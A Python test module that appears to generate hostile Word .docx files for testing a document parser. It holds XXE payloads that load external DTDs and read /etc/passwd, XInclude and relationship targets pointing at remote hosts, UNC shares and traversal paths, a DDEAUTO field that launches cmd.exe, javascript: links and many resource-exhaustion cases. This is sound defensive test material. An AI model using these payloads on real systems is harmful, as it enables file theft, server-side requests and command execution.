"""Hostile Word drafts: XML that is not as it should be, and parts that refer to each other and elsewhere."""

from __future__ import annotations

import io
import zipfile

from tests.hostile.drafts import body, draft, paragraph
from tests.hostile.texts import MILLION, Make

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_SPACES = f"xmlns:w='{_W}' xmlns:r='{_OFFICE}'"


def _always(inner: str) -> Make:
    return lambda _: draft(body(inner))


def with_parts(inner: str, **parts: str) -> Make:
    """Return a maker of a draft with these parts beside it, each related by its own name."""

    def make(where: str) -> bytes:
        relations = "".join(
            f'<Relationship Id="p{n}" Type="{_OFFICE}/{name}" Target="{name}.xml"/>'
            for n, name in enumerate(parts)
        )
        more = {
            f"word__{name}.xml": part.replace("WHERE", where).encode()
            for name, part in parts.items()
        }
        return draft(body(inner), relations, **more)

    return make


def encoded(encoding: str, before: str, inner: str = "") -> Make:
    """Return a maker of a draft whose main part is in an encoding, with something before its root."""
    return lambda where: _with_main(
        body(
            inner or paragraph("&e;"),
            f"<?xml version='1.0' encoding='{encoding}'?>" + before.replace("WHERE", where),
        ).encode(encoding, "replace")
    )


def _with_main(main: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(draft(""))) as old, zipfile.ZipFile(file, "w", method) as new:
        for name in old.namelist():
            new.writestr(name, main if name == "word/document.xml" else old.read(name))
    return file.getvalue()


def loose(inner: str) -> bytes:
    """Return a draft that is not packed: what repeats itself would be refused for that."""
    return _with_main(body(inner).encode(), zipfile.ZIP_STORED)


def _relations(top: str, own: str = "") -> Make:
    """Return a maker of a draft whose relations at the top and of its main part are these."""

    def make(where: str) -> bytes:
        file = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(draft(body("")))) as old, zipfile.ZipFile(file, "w") as new:
            for name in old.namelist():
                words = {"_rels/.rels": top, "word/_rels/document.xml.rels": own}.get(name) or ""
                new.writestr(name, words.replace("WHERE", where) if words else old.read(name))
        return file.getvalue()

    return make


def _related(*rows: str) -> str:
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{"".join(rows)}</Relationships>'


def _row(kind: str, target: str, number: str = "r1", mode: str = "") -> str:
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="{number}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def _elsewhere(scheme: str) -> Make:
    """Return a maker of a draft that refers by every kind of relation to one address."""
    kinds = (
        "image", "settings", "attachedTemplate", "footnotes", "endnotes", "numbering", "styles", "comments", "oleObject",
        "aFChunk", "subDocument", "frame", "header", "footer", "hyperlink", "theme", "fontTable", "webSettings", "customXml",
        "package", "control", "chart", "diagramData", "video", "audio", "glossaryDocument", "mailMergeSource", "printerSettings",
    )  # fmt: skip
    for_each = "".join(
        f'<Relationship Id="x{n}" Type="{_OFFICE}/{kind}" Target="{scheme}"{mode}/>'
        for n, kind in enumerate(kinds)
        for mode in ("", ' TargetMode="External"')
    )
    used = "".join(
        f"<w:p><w:hyperlink r:id='x{n}' w:anchor='a'><w:r><w:t>{kind}</w:t></w:r></w:hyperlink><w:subDoc r:id='x{n}'/>"
        f"<w:altChunk r:id='x{n}'/><w:r><w:object><o:OLEObject xmlns:o='urn:schemas-microsoft-com:office:office' r:id='x{n}'/></w:object>"
        f"<w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:imagedata r:id='x{n}' o:title='t' xmlns:o='urn:o'/></v:shape></w:pict></w:r></w:p>"
        for n, kind in enumerate(kinds)
    )
    return lambda where: draft(body(used), for_each.replace("WHERE", where))


def _field(instruction: str) -> str:
    parts = (
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>",
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>",
        "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>",
    )
    return f"<w:p>{''.join(parts)}</w:p>"


_OUTER = "<!DOCTYPE w [<!ENTITY % p SYSTEM 'http://WHERE/p.dtd'> %p; <!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
_QUADRATIC = f"<!DOCTYPE w [<!ENTITY e '{'x' * 50_000}'>]>"
_FIELDS = (
    "INCLUDETEXT \"file:///etc/passwd\"", "INCLUDEPICTURE \"http://WHERE/p.png\" \\d", "DDEAUTO c:\\\\windows\\\\cmd.exe \"/k\"",
    "HYPERLINK \"javascript:alert(1)\"", "HYPERLINK \"file:///etc/passwd\"", "HYPERLINK \\l \"a\" \\o \"b\"", "IMPORT \\\\WHERE\\p",
    "LINK Excel.Sheet \"\\\\WHERE\\a\" b", "DATABASE \\d \"http://WHERE/d\"", "RD http://WHERE/r", "HYPERLINK \"" + "a" * 100_000 + "\"",
)  # fmt: skip
_STYLED = "<w:p><w:pPr><w:pStyle w:val='s1'/></w:pPr><w:r><w:t>Words.</w:t></w:r></w:p>"
_LISTED = "<w:p><w:pPr><w:numPr><w:ilvl w:val='{}'/><w:numId w:val='{}'/></w:numPr></w:pPr><w:r><w:t>Item.</w:t></w:r></w:p>"


def _styles(count: int, inner: str) -> str:
    each = "".join(
        f"<w:style w:type='paragraph' w:styleId='s{n}'><w:name w:val='n{n}'/>{inner.replace('NEXT', f's{(n + 1) % count}')}</w:style>"
        for n in range(count)
    )
    return f"<w:styles {_SPACES}>{each}</w:styles>"


def _numbering(inner: str) -> str:
    return f"<w:numbering {_SPACES}>{inner}</w:numbering>"


def _comments(count: int, number: str = "N") -> str:
    each = "".join(
        f"<w:comment w:id='{n if number == 'N' else number}' w:author='A\u202e'><w:p><w:r><w:t>Remark {n}</w:t></w:r></w:p></w:comment>"
        for n in range(count)
    )
    return f"<w:comments {_SPACES}>{each}</w:comments>"


_ALTERNATIVES = "<mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'><mc:Choice Requires='wps'>"
_BEGUN = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"

PARTS: dict[str, Make] = {
    "outer-entities-utf-16.docx": encoded("utf-16", _OUTER),
    "outer-entities-utf-16-be.docx": encoded("utf-16-be", _OUTER),
    "outer-entities-utf-32.docx": encoded("utf-32", _OUTER),
    "outer-entities-utf-7.docx": encoded("utf-7", _OUTER),
    "outer-entities-ebcdic.docx": encoded("cp037", _OUTER),
    "outer-entities-ebcdic-unsaid.docx": lambda where: _with_main(body(paragraph("&e;"), "<?xml version='1.0' encoding='IBM037'?>" + _OUTER.replace("WHERE", where)).encode("cp037")),
    "entities-quadratic.docx": lambda _: draft(body(paragraph("&e;" * 50_000), _QUADRATIC)),
    "entities-quadratic-utf-16.docx": encoded("utf-16", _QUADRATIC, paragraph("&e;" * 50_000)),
    "definition-in-relations.docx": _relations(_OUTER + _related(_row("officeDocument", "word/document.xml"))),
    "in-utf-32.docx": encoded("utf-32", "", paragraph("Words.")),
    "includes.docx": _always("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"),
    "sheet-of-styles.docx": lambda where: draft(body("", f"<?xml-stylesheet type='text/xsl' href='http://{where}/x.xsl'?>")),
    "schema-elsewhere.docx": lambda where: draft(body(f"<w:p xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='a http://{where}/s.xsd'/>")),
    "attributes-one-million.docx": lambda _: draft(body("<w:p " + " ".join(f"a{n}='b'" for n in range(MILLION)) + "/>")),
    "attributes-ten-thousand-each.docx": lambda _: draft(body(("<w:p " + " ".join(f"a{n}='b'" for n in range(10_000)) + "/>") * 100)),
    "namespaces-one-million.docx": lambda _: draft(body("<w:p " + " ".join(f"xmlns:a{n}='b{n}'" for n in range(MILLION)) + "/>")),
    "namespaces-of-each.docx": lambda _: draft(body("".join(f"<a{n}:p xmlns:a{n}='u{n}'/>" for n in range(100_000)))),
    "name-of-5-mb.docx": lambda _: loose(f"<w:{'a' * 5 * MILLION}/>"),
    "comments-of-xml.docx": lambda _: loose("<!-- a -->" * MILLION),
    "instructions-of-xml.docx": lambda _: loose("<?a b?>" * MILLION),
    "characters-of-xml.docx": lambda _: loose("<w:p><w:r><w:t>" + "<![CDATA[a]]>" * MILLION + "</w:t></w:r></w:p>"),
    "texts-of-xml.docx": lambda _: loose("<w:p><w:r><w:t>" + "&#x41;" * 2 * MILLION + "</w:t></w:r></w:p>"),
    "nested-255.docx": lambda _: draft(body("<w:sdt><w:sdtContent>" * 122 + paragraph("deep") + "</w:sdtContent></w:sdt>" * 122)),
    "nested-257.docx": lambda _: draft(body("<w:sdt><w:sdtContent>" * 127 + paragraph("deep") + "</w:sdtContent></w:sdt>" * 127)),
    "tables-eighty-deep.docx": lambda _: loose(("<w:tbl><w:tr><w:tc>" * 80 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 80) * 500),
    "no-relations.docx": _relations(_related()),
    "relations-of-itself.docx": _relations(_related(_row("officeDocument", "_rels/.rels")), _related(_row("styles", "document.xml"))),
    "relations-twice.docx": _relations(_related(_row("officeDocument", "word/document.xml"), _row("officeDocument", "word/other.xml", "r2"))),
    "relations-outside.docx": _relations(_related(_row("officeDocument", "/../../../etc/passwd")), _related(_row("styles", "file:///etc/passwd"))),
    "relations-to-one-part.docx": _relations(_related(_row("officeDocument", "word/document.xml")), _related(*(
        _row(kind, "document.xml", kind) for kind in ("styles", "numbering", "footnotes", "endnotes", "comments")))),
    "relations-to-relations.docx": _relations(_related(_row("officeDocument", "word/document.xml")), _related(*(
        _row(kind, "/word/_rels/document.xml.rels", kind) for kind in ("styles", "footnotes", "comments")))),
    "relations-from-slashes.docx": _relations(_related(_row("officeDocument", "/" * 100_000 + "word/document.xml"))),
    "main-part-elsewhere.docx": _relations(_related(_row("officeDocument", "http://WHERE/document.xml", mode="External"))),
    "relations-one-hundred-thousand.docx": _relations(_related(_row("officeDocument", "word/document.xml")), _related(*(_row("image", f"media/{n}.png", f"i{n}") for n in range(100_000)))),
    "everything-elsewhere-by-http.docx": _elsewhere("http://WHERE/a#b"),
    "everything-elsewhere-by-file.docx": _elsewhere("file:///etc/passwd"),
    "everything-elsewhere-by-share.docx": _elsewhere("\\\\WHERE\\share\\a"),
    "everything-elsewhere-by-path.docx": _elsewhere("../../../../../etc/passwd"),
    "fields-of-all-kinds.docx": lambda where: draft(body("".join(_field(each.replace("WHERE", where)) for each in _FIELDS))),
    "fields-in-fields.docx": lambda _: loose("<w:p>" + _BEGUN * 50_000 + "<w:r><w:t>a</w:t></w:r></w:p>"),
    "fields-without-begin.docx": lambda _: loose("<w:p>" + "<w:r><w:fldChar w:fldCharType='end'/></w:r>" * 50_000 + "</w:p>"),
    "styles-in-a-loop.docx": with_parts(_STYLED, styles=_styles(1_000, "<w:basedOn w:val='NEXT'/><w:link w:val='NEXT'/><w:next w:val='NEXT'/>")),
    "styles-one-hundred-thousand.docx": with_parts(_STYLED, styles=_styles(100_000, "")),
    "styles-with-the-same-name.docx": with_parts(_STYLED, styles=_styles(20_000, "").replace("n1", "Heading 1")),
    "numbering-in-a-loop.docx": with_parts(_LISTED.format(0, 1), numbering=_numbering(
        "<w:abstractNum w:abstractNumId='1'><w:numStyleLink w:val='s1'/></w:abstractNum><w:num w:numId='1'><w:abstractNumId w:val='1'/></w:num>"),
        styles=_styles(1, "<w:pPr><w:numPr><w:numId w:val='1'/></w:numPr></w:pPr>")),
    "numbering-one-hundred-thousand.docx": with_parts(_LISTED.format(0, 1), numbering=_numbering(
        "".join(f"<w:abstractNum w:abstractNumId='{n}'><w:lvl w:ilvl='0'><w:numFmt w:val='bullet'/></w:lvl></w:abstractNum><w:num w:numId='{n}'><w:abstractNumId w:val='{n}'/></w:num>" for n in range(50_000)))),
    "level-of-a-billion.docx": with_parts(_LISTED.format(10**9, 1) + _LISTED.format("-1", "x") + _LISTED.format("9" * 5_000, 1), numbering=_numbering(
        "<w:abstractNum w:abstractNumId='1'><w:lvl w:ilvl='1000000000'><w:numFmt w:val='bullet'/></w:lvl></w:abstractNum><w:num w:numId='1'><w:abstractNumId w:val='1'/></w:num>")),
    "cells-that-span.docx": _always("<w:tbl>" + "<w:tr><w:tc><w:tcPr><w:gridSpan w:val='-5'/><w:vMerge/></w:tcPr></w:tc><w:tc><w:tcPr><w:gridSpan w:val='x'/><w:vMerge w:val='restart'/></w:tcPr></w:tc></w:tr>" * 5_000 + "</w:tbl>"),
    "cells-that-span-all.docx": lambda _: loose("<w:tbl>" + "<w:tr><w:tc><w:tcPr><w:gridSpan w:val='90'/><w:vMerge/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc></w:tr>" * 20_000 + "</w:tbl>"),
    "remarks-one-million.docx": lambda where: with_parts(paragraph("a"), comments=_comments(60_000))(where),
    "remarks-on-one-word.docx": lambda where: with_parts("<w:p>" + "".join(f"<w:r><w:commentReference w:id='{n}'/></w:r>" for n in range(20_000)) + "</w:p>", comments=_comments(20_000))(where),
    "remarks-with-one-number.docx": lambda where: with_parts("<w:p>" + "<w:r><w:commentReference w:id='7'/></w:r>" * 20_000 + "</w:p>", comments=_comments(20_000, "7"))(where),
    "notes-in-notes.docx": with_parts("<w:p><w:r><w:footnoteReference w:id='2'/><w:endnoteReference w:id='2'/></w:r></w:p>" * 2_000,
        footnotes=f"<w:footnotes {_SPACES}><w:footnote w:id='2'><w:p><w:r><w:t>Note</w:t><w:endnoteReference w:id='2'/></w:r></w:p></w:footnote></w:footnotes>",
        endnotes=f"<w:endnotes {_SPACES}><w:endnote w:id='2'><w:p><w:r><w:t>End</w:t><w:footnoteReference w:id='2'/></w:r></w:p></w:endnote></w:endnotes>"),
    "settings-elsewhere.docx": with_parts("", settings=f"<w:settings {_SPACES}><w:attachedTemplate r:id='x'/><w:mailMerge><w:dataSource r:id='x'/></w:mailMerge></w:settings>"),
    "alternatives-in-alternatives.docx": _always("<w:p><w:r>" + _ALTERNATIVES * 100 + "<w:drawing/>" + "</mc:Choice></mc:AlternateContent>" * 100 + "</w:r></w:p>"),
    "boxes-in-boxes.docx": _always("<w:p><w:r>" + "<w:pict><v:textbox xmlns:v='urn:schemas-microsoft-com:vml'><w:txbxContent><w:p><w:r>" * 48 + "<w:t>a</w:t>" + "</w:r></w:p></w:txbxContent></v:textbox></w:pict>" * 48 + "</w:r></w:p>"),
    "macros.docx": lambda _: draft(body(""), **{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\xff" * MILLION, "customUI__customUI.xml": b"<a onLoad='b'/>"}),
    "bookmarks-in-a-loop.docx": lambda _: draft(body("".join(f"<w:p><w:bookmarkStart w:id='{n}' w:name='a'/><w:hyperlink w:anchor='a'><w:r><w:t>b</w:t></w:r></w:hyperlink></w:p>" for n in range(20_000)))),
    "symbols.docx": lambda _: loose("<w:p><w:r>" + "<w:sym w:font='Wingdings' w:char='F0FFFFFF'/><w:sym/><w:tab/><w:br w:type='x'/><w:noBreakHyphen/>" * 20_000 + "</w:r></w:p>"),
    "runs-without-end.docx": lambda _: loose("<w:p>" + "".join(f"<w:r><w:rPr>{'<w:b/>' * (n % 2)}</w:rPr><w:t>a</w:t></w:r>" for n in range(90_000)) + "</w:p>"),
    "runs-alike-without-end.docx": lambda _: loose("<w:p>" + "<w:r><w:t>word </w:t></w:r>" * 130_000 + "</w:p>"),
    "changes-without-end.docx": lambda _: loose("<w:p>" + "<w:ins w:author='a'><w:r><w:t>a</w:t></w:r></w:ins><w:del><w:r><w:delText>b</w:delText></w:r></w:del>" * 40_000 + "</w:p>"),
    "hidden-in-hidden.docx": lambda _: draft(body("<w:p>" + "<w:r><w:rPr><w:vanish/>" * 110 + "</w:rPr><w:t>a</w:t></w:r>" * 110 + "</w:p>")),
}  # fmt: skip
